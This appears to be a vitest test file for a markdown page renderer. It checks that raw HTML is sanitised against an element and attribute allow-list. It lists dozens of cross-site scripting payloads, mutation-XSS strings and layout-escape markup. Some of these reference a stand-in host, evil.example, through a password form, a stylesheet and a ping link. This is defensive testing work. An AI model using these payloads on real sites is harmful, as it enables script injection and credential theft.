import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { assert, describe, expect, test } from 'vitest'
import { renderPage } from '../../../src/site/markdown/render.ts'
import { pageOf } from '../../guidebook/written-page.ts'
import { attribute, bodyOf, elementsOf, plainContext, textOf } from './rendered-page.ts'

const words = (list: string) => new Set(list.trim().split(/\s+/))

/** What a page may be made of: text, nothing that runs, loads, submits, styles or frames. */
const elements = words(`
  a abbr b bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p
  picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead time tr tt
  ul var wbr`)

/** What those may say: no handler, no style, no target of a form. */
const attributes = words(`
  align alt aria-describedby aria-hidden aria-label aria-labelledby border cellpadding cellspacing checked cite class
  colspan compact data-footnote-backref data-footnote-ref data-footnotes data-status datetime decoding dir disabled
  headers height href id itemprop itemscope itemtype lang loading longdesc media name open rel role rowspan scope src
  srcset start summary tabindex title type valign value width`)

const addresses = ['href', 'src', 'srcset', 'cite', 'longdesc']

/** Everything in a piece of HTML, as a browser would read it, that no page may have. */
function forbiddenIn(html: string): string[] {
  return elementsOf(html).flatMap((element) => [
    ...(elements.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...(element.namespaceURI.endsWith('/xhtml') ? [] : [`<${element.tagName}> of ${element.namespaceURI}`]),
    ...element.attrs.flatMap(({ name, value }) => [
      ...(attributes.has(name) ? [] : [`${name} of <${element.tagName}>`]),
      ...(addresses.includes(name) && isUnsafe(value) ? [`${name}="${value}"`] : []),
      ...(name === 'id' && /^wm-/i.test(value) ? [`id="${value}"`] : []),
      ...(name === 'name' && element.tagName !== 'a' ? [`name of <${element.tagName}>`] : []),
    ]),
  ])
}

function isUnsafe(value: string): boolean {
  return !/^(?:https?|mailto|tel|xmpp|ircs?):$/.test(URL.parse(value, 'https://site.example/')?.protocol ?? 'https:')
}

/** Whether a body stays where the layout puts it: what comes after it is still there, outside of it. */
function staysInside(html: string): boolean {
  const document = parse(
    `<!doctype html><title>t</title><main id="wm-m"><div id="wm-d">${html}<hr id="wm-e"></div></main><footer id="wm-f">`,
  )
  const find = (node: DefaultTreeAdapterTypes.ParentNode, id: string): DefaultTreeAdapterTypes.Element | undefined => {
    for (const child of node.childNodes) {
      if (!('tagName' in child)) continue
      const found = attribute(child, 'id') === id ? child : find(child, id)
      if (found) return found
    }
    return undefined
  }
  const [main, inside, end, footer] = ['wm-m', 'wm-d', 'wm-e', 'wm-f'].map((id) => find(document, id))
  const isWhole = inside !== undefined && end?.parentNode === inside && inside.parentNode === main
  return isWhole && footer?.parentNode === main?.parentNode && main?.parentNode?.nodeName === 'body'
}

function assertHarmless(text: string) {
  const { title, header, body } = renderPage(text, 'md', plainContext)
  for (const html of [title, ...header.map((field) => field.html), body]) {
    expect(forbiddenIn(html), text).toStrictEqual([])
    assert.ok(staysInside(html), `${text}\n${html}`)
  }
}

/** Raw HTML that would run, load, submit, style or frame something. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<x>script>alert(1)<</x>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<img/src=x/onerror=alert(1)>',
  '<b onclick=alert(1) ONMOUSEOVER="alert(1)" on\u00e9=1>x</b>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"><embed src="x.swf"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet><frameset><frame src=x></frameset>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<style>@import "//evil.example"; * { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src=x formaction=javascript:alert(1)><select><option>x</option></select><textarea>x</textarea>',
  '<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css">',
  '<video src=x onerror=alert(1) poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x></audio>',
  '<dialog open><marquee onstart=alert(1)>x</marquee></dialog>',
  '<template><script>alert(1)</script></template>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#1; JaVa&Tab;ScRiPt&colon;alert(1)">x</a>',
  '<a href="javas\ncript:alert(1)" data-footnote-ref>x</a><a href="javascript:alert(1)" data-footnote-backref class="data-footnote-backref">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="#" ping="//evil.example" target=_top download>x</a>',
  '<area href="javascript:alert(1)"><map name=x></map>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="javascript:alert(1)">',
  '<picture><source srcset="javascript:alert(1) 1x, data:x 2x"><img srcset="data:x 1x" src=x></picture>',
  '<table background="javascript:alert(1)"><td background=x>',
  '<blockquote cite="javascript:alert(1)">x</blockquote><img longdesc="javascript:alert(1)" src=x>',
  '<b id="wm-main" class="alert header-card" data-status="erp" data-pagefind-ignore role=main>x</b>',
  '<a id=wm-main name=wm-search>x</a><h2 id="WM-contents">x</h2>',
  '<img name=getElementById src=x><input name=cookie><a id=location>x</a>',
  '[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>',
  '[x](&#x6A;avascript:alert(1)) [x](<java\tscript:alert(1)>) [y][j]\n\n[j]: vbscript:x',
  '![x" onerror="alert(1)](x.png "t\' onload=\'x") [x](y "a\\" onclick=\\"b")',
  '`<script>` ```<script>``` \\<script> &lt;script&gt;',
  '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
]

/** Markup whose meaning changes when it is written out and parsed again. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<svg><desc><noscript></desc><s title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>"></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<p title="--><img src=x onerror=alert(1)>"><!-- </p> -->',
  '<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]> <?php <img src=x onerror=alert(1)> ?>',
  '<a><table><a><p><table><td><a title="</a></table><img src=x onerror=alert(1)>">',
  '<table><caption><svg><style></caption><img src=x onerror=alert(1)>',
  '<div title="\u0000"><b title="`"></b><i title=\'"><img src=x onerror=alert(1)>\'></i></div>',
]

/** Markup that would swallow or close what the layout puts around it. */
const escapes = [
  '</main></body></html><footer>',
  '</div></div></div></main>',
  '</p></article></section></td></table>',
  '<div><div><section>',
  '<table><tr><td>',
  '<table>\n\ntext\n\n<tr>',
  '<a href="x">',
  '<b><i><s>',
  '<!-- never closed',
  '<p title="never closed',
  '<div class="\n\nnever *closed*',
  '<script>',
  '<style>',
  '<textarea>',
  '<title>',
  '<plaintext>',
  '<xmp>',
  '<iframe>',
  '<noscript>',
  '<template>',
  '<svg>',
  '<math>',
  '<object>',
  '<select>',
  '<button>',
  '<head>',
  '<frameset>',
  '<li><dd><dt><tr>',
  '<summary></details>',
  '<h1><h2><p>',
  '<pre>\n\n',
]

describe('No page runs, loads, submits, styles or frames anything', () => {
  test('what is looked for would be seen', () => {
    const seen = [
      '<script>',
      '<b onclick=x>',
      '<a href=javascript:x>',
      '<svg>',
      '<b id=wm-x>',
      '<img src="data:x">',
      '<img name=x>',
    ]
    for (const html of seen) expect(forbiddenIn(html), html).not.toStrictEqual([])
    expect(staysInside('</div></main>')).toBe(false)
    expect(staysInside('<textarea>')).toBe(false)
    expect(staysInside('<p>text')).toBe(true)
  })

  for (const attack of [...attacks, ...mutations, ...escapes]) {
    test(JSON.stringify(attack), () => {
      assertHarmless(attack)
      assertHarmless(`text ${attack} text`)
      assertHarmless(
        `# ${attack.replaceAll('\n', ' ')}\n\n> **Status:** ${attack.replaceAll('\n', ' ')}\n\n- ${attack.replaceAll('\n', '\n  ')}\n`,
      )
      assertHarmless(
        `> ${attack.replaceAll('\n', '\n> ')}\n\n| a |\n|---|\n| ${attack.replaceAll('\n', ' ').replaceAll('|', '')} |\n`,
      )
      assertHarmless(`<details>\n<summary>${attack}</summary>\n\n${attack}\n\n</details>\n\n[^1]\n\n[^1]: ${attack}`)
    })
  }

  test('nor does any mixture', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks, ...mutations, ...escapes),
      fc.constantFrom(
        ...'<table> <td> <a> <p> <b> <svg> <math> <mtext> <style> </style> <!-- --> </svg> </p> </table> <select> " > \' \n\n `'.split(
          ' ',
        ),
        '\n\n',
        '> ',
        '- ',
        '**',
      ),
      fc.string({ maxLength: 4 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 10 }), (pieces) => assertHarmless(pieces.join(''))),
      { numRuns: 1500 },
    )
  })
})

describe('What is around something that is dropped stays', () => {
  for (const opened of escapes.filter((markup) => !/^<!--|^<p title|^<div class/.test(markup))) {
    test(`the text after ${opened.replaceAll('\n', '\\n')}`, () => {
      const html = bodyOf(`before ${opened.replaceAll('\n', ' ')} beside\n\nafter\n`)
      const shown = elementsOf(`<div>${html}</div>`)[0]
      assert.ok(shown)
      for (const word of ['before', 'beside', 'after']) assert.ok(textOf(shown).includes(word), `${word} in ${html}`)
    })
  }

  test('a tag that is taken out does not make another of what stood around it', () => {
    expect(bodyOf('<div>\n<<x>title>a\n</div>\n\nafter\n')).toBe('<div>\n&#x3C;title>a\n</div>\n<p>after</p>')
  })

  test('an unknown element leaves what it holds; what is not text goes with its element', () => {
    const cases: [text: string, html: string][] = [
      ['a <name>b</name> <center>c</center>', '<p>a b c</p>'],
      ['a <svg><text>b</text></svg> c', '<p>a  c</p>'],
      ['a <script>b</script> c', '<p>a  c</p>'],
      ['<style>\nb\n\nc\n</style>\n\nd', '\n<p>d</p>'],
      ['the <title> of <object> and <svg>', '<p>the  of  and </p>'],
      ['a <b onclick="x" title="y">c</b>', '<p>a <b title="y">c</b></p>'],
      ['a <!-- b --> c', '<p>a  c</p>'],
    ]
    for (const [text, html] of cases) expect(bodyOf(text), text).toBe(html)
  })

  test('and is told by the model: what is dropped from a page is dropped from its HTML', () => {
    for (const { text, dropped } of [
      { text: 'a <video src="b"></video>', dropped: 'video' },
      { text: '<p onclick="x">a</p>', dropped: 'onclick' },
      { text: '<p id="wm-x">a</p>', dropped: 'wm-x' },
      { text: '<img name="x" src="y">', dropped: 'name=' },
    ]) {
      expect(pageOf(text).droppedHtml.length, text).toBe(1)
      assert.ok(!bodyOf(text).includes(dropped), text)
    }
  })
})
